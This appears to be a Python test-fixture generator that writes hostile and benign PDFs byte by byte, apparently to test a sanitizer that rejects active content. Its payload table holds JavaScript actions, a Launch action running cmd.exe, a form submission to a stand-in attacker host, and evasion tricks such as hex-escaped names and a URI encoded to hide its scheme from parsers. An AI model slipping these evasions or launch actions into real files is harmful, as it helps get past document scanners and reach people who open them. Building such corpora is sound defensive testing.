"""A generator of hostile and benign PDFs, written byte by byte (probing finding 8.2).

Every hostile file is one combination of where an action sits (placement), how it is reached
(action chain) and how its objects are stored (encoding): in the plain body with a classic xref
table, or inside an object stream behind a filter chain with a cross-reference stream. The
files are small and complete: pypdf reads each one in strict mode (see test_corpus_parses).
"""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

# --- encodings ------------------------------------------------------------------------------

# name -> (the /Filter value, how to encode the object stream's text for it)
ENCODINGS: dict[str, tuple[bytes, Callable[[bytes], bytes]] | None] = {
    "plain": None,
    "objstm-flate-flate": (
        b"[/FlateDecode /FlateDecode]",
        lambda raw: zlib.compress(zlib.compress(raw)),
    ),
    "objstm-asciihex": (b"/ASCIIHexDecode", lambda raw: raw.hex().encode() + b">"),
    "objstm-ascii85-flate": (
        b"[/ASCII85Decode /FlateDecode]",
        lambda raw: base64.a85encode(zlib.compress(raw)) + b"~>",
    ),
}

# Filter chains that do not decode what they declare: such a file cannot be judged.
BROKEN_ENCODINGS: dict[str, tuple[bytes, Callable[[bytes], bytes]]] = {
    "flate-declared-twice": (b"[/FlateDecode /FlateDecode]", zlib.compress),
    "asciihex-garbage": (b"/ASCIIHexDecode", lambda raw: b"zz" + raw.hex().encode() + b">"),
    "ascii85-cut": (
        b"[/ASCII85Decode /FlateDecode]",
        lambda raw: base64.a85encode(zlib.compress(raw))[:-12] + b"~>",
    ),
}


class Pdf:
    """Objects by number; `build()` lays them out with a correct cross-reference."""

    def __init__(self) -> None:
        self.objects: dict[int, bytes] = {}
        self.streams: dict[int, tuple[bytes, bytes]] = {}

    def reserve(self) -> int:
        number = len(self.objects) + len(self.streams) + 1
        self.objects[number] = b"null"
        return number

    def add(self, body: bytes, number: int | None = None) -> int:
        number = number or self.reserve()
        self.objects[number] = body
        return number

    def add_stream(self, entries: bytes, data: bytes) -> int:
        number = self.reserve()
        del self.objects[number]
        self.streams[number] = (entries, data)
        return number

    def build(self, *, root: int, encoding: str) -> bytes:
        out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        offsets: dict[int, int] = {}

        def write(number: int, body: bytes) -> None:
            offsets[number] = len(out)
            out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

        for number, (entries, data) in sorted(self.streams.items()):
            write(number, _stream(entries, data))
        spec = {**ENCODINGS, **BROKEN_ENCODINGS}[encoding]
        if spec is None:
            for number, body in sorted(self.objects.items()):
                write(number, body)
            size = max(offsets) + 1
            xref_at = len(out)
            out.extend(b"xref\n0 %d\n0000000000 65535 f \n" % size)
            for number in range(1, size):
                out.extend(b"%010d 00000 n \n" % offsets[number])
            out.extend(b"trailer\n<</Size %d /Root %d 0 R>>\n" % (size, root))
        else:
            filters, encode = spec
            packed = sorted(self.objects.items())
            head, packed_body = bytearray(), bytearray()
            for number, source in packed:
                head.extend(b"%d %d " % (number, len(packed_body)))
                packed_body.extend(source + b"\n")
            objstm = max([*self.objects, *self.streams]) + 1
            header = b"/Type /ObjStm /N %d /First %d /Filter %s" % (
                len(packed),
                len(head),
                filters,
            )
            write(objstm, _stream(header, encode(bytes(head + packed_body))))
            xref = objstm + 1
            xref_at = len(out)
            offsets[xref] = xref_at
            rows = bytearray(struct.pack(">BIH", 0, 0, 65535))
            index = {number: i for i, (number, _) in enumerate(packed)}
            for number in range(1, xref + 1):
                if number in index:
                    rows.extend(struct.pack(">BIH", 2, objstm, index[number]))
                else:
                    rows.extend(struct.pack(">BIH", 1, offsets[number], 0))
            entries = b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R" % (xref + 1, root)
            out.extend(b"%d 0 obj\n" % xref + _stream(entries, bytes(rows)) + b"\nendobj\n")
        out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_at)
        return bytes(out)


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<<%s /Length %d>>\nstream\n" % (entries, len(data)) + data + b"\nendstream"


# --- the document around the payload ---------------------------------------------------------


@dataclass
class Document:
    """A one-page text document; placements add entries to the catalog, page or new objects."""

    pdf: Pdf
    catalog: int
    page: int
    catalog_extra: bytes = b""
    page_extra: bytes = b""

    def ref(self, number: int) -> bytes:
        return b"%d 0 R" % number

    def goto(self) -> bytes:
        return b"<</S /GoTo /D [%d 0 R /Fit]>>" % self.page

    def finish(self, encoding: str) -> bytes:
        pages = self.pdf.add(b"<</Type /Pages /Kids [%d 0 R] /Count 1>>" % self.page)
        font = self.pdf.add(b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>")
        content = self.pdf.add_stream(
            b"/Filter /FlateDecode",
            zlib.compress(b"BT /F1 12 Tf 72 720 Td (Surat keterangan) Tj ET"),
        )
        self.pdf.add(
            b"<</Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources <</Font <</F1 %d 0 R>>>>%s>>" % (pages, content, font, self.page_extra),
            self.page,
        )
        self.pdf.add(
            b"<</Type /Catalog /Pages %d 0 R%s>>" % (pages, self.catalog_extra), self.catalog
        )
        return self.pdf.build(root=self.catalog, encoding=encoding)


def new_document() -> Document:
    pdf = Pdf()
    return Document(pdf=pdf, catalog=pdf.reserve(), page=pdf.reserve())


# --- payloads, chains, placements -----------------------------------------------------------

# The actions that must never be stored, each as a PDF dictionary.
PAYLOADS: dict[str, bytes] = {
    "javascript": b"<</S /JavaScript /JS (app.alert\\(1\\))>>",
    "javascript-hex": b"<</Type /Action /S /J#61vaScript /JS <6170702e616c657274283129>>>",
    "launch": b"<</S /Launch /F (cmd.exe) /Win <</F (cmd.exe) /P (/c calc)>>>>",
    "submitform": b"<</S /SubmitForm /F <</FS /URL /F (http://penyerang.example/)>>>>",
    "importdata": b"<</S /ImportData /F (data.fdf)>>",
    "gotor": b"<</S /GoToR /F (lain.pdf) /D [0 /Fit] /NewWindow true>>",
    "gotoe": b"<</S /GoToE /D [0 /Fit] /T <</R /C /N (lampiran)>>>>",
    "sound": b"<</S /Sound /Volume 1.0>>",
    "movie": b"<</S /Movie /T (film)>>",
    "rendition": b"<</S /Rendition /OP 0>>",
    "richmedia": b"<</S /RichMediaExecute /CMD <</C (play)>>>>",
    "uri-javascript": b"<</S /URI /URI ( javascript:app.alert\\(1\\))>>",
    # Not text in any PDF encoding (the 0x9f), so pypdf keeps it as bytes; an even length
    # makes str() of those bytes read them as UTF-16 and hide the scheme.
    "uri-javascript-bytes": b"<</S /URI /URI <6a6176617363726970743a616c657274283129 9f>>>",
    "uri-file": b"<</S /URI /URI (file:///C:/Windows/system32/calc.exe)>>",
}

# chain name -> a function of (document, payload) giving the token placed where an action goes.
CHAINS: dict[str, Callable[[Document, bytes], bytes]] = {
    "direct": lambda doc, payload: doc.ref(doc.pdf.add(payload)),
    "inline": lambda doc, payload: payload,
    "goto-next": lambda doc, payload: doc.ref(
        doc.pdf.add(doc.goto()[:-2] + b" /Next %s>>" % doc.ref(doc.pdf.add(payload)))
    ),
    "goto-next-array": lambda doc, payload: doc.ref(
        doc.pdf.add(
            doc.goto()[:-2]
            + b" /Next [%s %s]>>"
            % (doc.ref(doc.pdf.add(doc.goto())), doc.ref(doc.pdf.add(payload)))
        )
    ),
    "uri-next": lambda doc, payload: doc.ref(
        doc.pdf.add(
            b"<</S /URI /URI (https://layanan.example.go.id/) /Next %s>>"
            % doc.ref(doc.pdf.add(payload))
        )
    ),
    "goto-goto-next": lambda doc, payload: (
        doc.goto()[:-2]
        + b" /Next <</S /GoTo /D [%d 0 R /XYZ 0 0 0] /Next [%s]>>>>"
        % (doc.page, doc.ref(doc.pdf.add(payload)))
    ),
}


def _open_action(doc: Document, action: bytes) -> None:
    doc.catalog_extra += b" /OpenAction %s" % action


def _catalog_aa(doc: Document, action: bytes) -> None:
    doc.catalog_extra += b" /AA <</WC %s>>" % action


def _page_aa(doc: Document, action: bytes) -> None:
    doc.page_extra += b" /AA %s" % doc.ref(doc.pdf.add(b"<</O %s>>" % action))


def _outline(doc: Document, action: bytes) -> None:
    outlines = doc.pdf.reserve()
    first = doc.pdf.add(
        b"<</Title (Bab 1) /Parent %d 0 R /Dest [%d 0 R /Fit]>>" % (outlines, doc.page)
    )
    item = doc.pdf.add(
        b"<</Title (Bab 2) /Parent %d 0 R /Prev %d 0 R /A %s>>" % (outlines, first, action)
    )
    doc.pdf.objects[first] = doc.pdf.objects[first][:-2] + b" /Next %d 0 R>>" % item
    doc.pdf.add(
        b"<</Type /Outlines /First %d 0 R /Last %d 0 R /Count 2>>" % (first, item), outlines
    )
    doc.catalog_extra += b" /Outlines %d 0 R" % outlines


def _link(doc: Document, action: bytes) -> None:
    link = doc.pdf.add(
        b"<</Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] /A %s>>" % action
    )
    doc.page_extra += b" /Annots [%d 0 R]" % link


def _annotation_aa(doc: Document, action: bytes) -> None:
    link = doc.pdf.add(
        b"<</Type /Annot /Subtype /Link /Rect [72 700 300 730] /AA <</E %s>>>>" % action
    )
    doc.page_extra += b" /Annots [%d 0 R]" % link


def _field_aa(doc: Document, action: bytes) -> None:
    field = doc.pdf.add(
        b"<</Type /Annot /Subtype /Widget /FT /Tx /T (nama) /Rect [72 600 300 620] "
        b"/P %d 0 R /AA <</K %s /F %s>>>>" % (doc.page, action, action)
    )
    doc.page_extra += b" /Annots [%d 0 R]" % field
    doc.catalog_extra += b" /AcroForm <</Fields [%d 0 R]>>" % field


def _names_tree(doc: Document, action: bytes) -> None:
    # A names tree of actions run when the document opens (what /JavaScript holds), here
    # spelled with hex escapes so a byte search for the name misses it.
    tree = doc.pdf.add(b"<</Names [(mulai) %s]>>" % action)
    doc.catalog_extra += b" /Names <</J#61vaScript %d 0 R>>" % tree


PLACEMENTS: dict[str, Callable[[Document, bytes], None]] = {
    "open-action": _open_action,
    "catalog-aa": _catalog_aa,
    "page-aa": _page_aa,
    "outline": _outline,
    "link": _link,
    "annotation-aa": _annotation_aa,
    "field-aa": _field_aa,
    "names-javascript": _names_tree,
}


def made(build: Callable[[Document], None], encoding: str) -> bytes:
    """A one-page document that ``build`` adds to, stored with ``encoding``."""
    doc = new_document()
    build(doc)
    return doc.finish(encoding)


def hostile(placement: str, chain: str, payload: str, encoding: str) -> bytes:
    return made(
        lambda doc: PLACEMENTS[placement](doc, CHAINS[chain](doc, PAYLOADS[payload])), encoding
    )


def _embedded_file(doc: Document) -> None:
    data = doc.pdf.add_stream(b"/Type /EmbeddedFile", b"MZ\x90\x00")
    spec = doc.pdf.add(b"<</Type /Filespec /F (a.exe) /EF <</F %d 0 R>>>>" % data)
    doc.catalog_extra += b" /Names <</EmbeddedFiles <</Names [(a.exe) %d 0 R]>>>>" % spec


def _file_attachment(doc: Document) -> None:
    data = doc.pdf.add_stream(b"/Type /EmbeddedFile", b"MZ\x90\x00")
    spec = doc.pdf.add(b"<</Type /Filespec /F (a.exe) /EF <</F %d 0 R>>>>" % data)
    annot = doc.pdf.add(
        b"<</Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS %d 0 R>>" % spec
    )
    doc.page_extra += b" /Annots [%d 0 R]" % annot


def _xfa(doc: Document) -> None:
    xfa = doc.pdf.add_stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    doc.catalog_extra += b" /AcroForm <</Fields [] /XFA %d 0 R>>" % xfa


def _rich_media(doc: Document) -> None:
    annot = doc.pdf.add(
        b"<</Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent <<>>>>"
    )
    doc.page_extra += b" /Annots [%d 0 R]" % annot


def _screen(doc: Document) -> None:
    annot = doc.pdf.add(b"<</Type /Annot /Subtype /Screen /Rect [0 0 10 10]>>")
    doc.page_extra += b" /Annots [%d 0 R]" % annot


def _loose_js(doc: Document) -> None:
    # /JS in a dictionary nothing points at: still refused, wherever it sits.
    doc.pdf.add(b"<</JS (app.alert\\(1\\))>>")


# Active content that is not an action chain: files, forms, media.
FEATURES: dict[str, Callable[[Document], None]] = {
    "embedded-files": _embedded_file,
    "file-attachment": _file_attachment,
    "xfa": _xfa,
    "rich-media": _rich_media,
    "screen": _screen,
    "loose-js": _loose_js,
}


def with_feature(feature: str, encoding: str) -> bytes:
    return made(FEATURES[feature], encoding)


# --- benign documents -----------------------------------------------------------------------


def _plain(doc: Document) -> None:
    return None


def _http_link(doc: Document) -> None:
    _link(doc, b"<</S /URI /URI (https://layanan.example.go.id/status)>>")


def _goto_outlines(doc: Document) -> None:
    _outline(doc, doc.goto())
    _open_action(doc, b"[%d 0 R /Fit]" % doc.page)


BENIGN: dict[str, Callable[[Document], None]] = {
    "text-page": _plain,
    "http-link": _http_link,
    "goto-outlines": _goto_outlines,
}


def benign(kind: str, encoding: str) -> bytes:
    return made(BENIGN[kind], encoding)


def corpus() -> Iterator[tuple[str, bytes]]:
    """Every hostile file, named placement/chain/payload/encoding (or feature/encoding)."""
    for placement in PLACEMENTS:
        for chain in CHAINS:
            for payload in PAYLOADS:
                for encoding in ENCODINGS:
                    name = f"{placement}/{chain}/{payload}/{encoding}"
                    yield name, hostile(placement, chain, payload, encoding)
    for feature in FEATURES:
        for encoding in ENCODINGS:
            yield f"{feature}/{encoding}", with_feature(feature, encoding)


def js_open_action_pdf() -> bytes:
    """The smallest hostile PDF, by hand: its catalog runs JavaScript when the file opens."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"3 0 obj<</S/JavaScript/JS(app.alert('x'))>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )
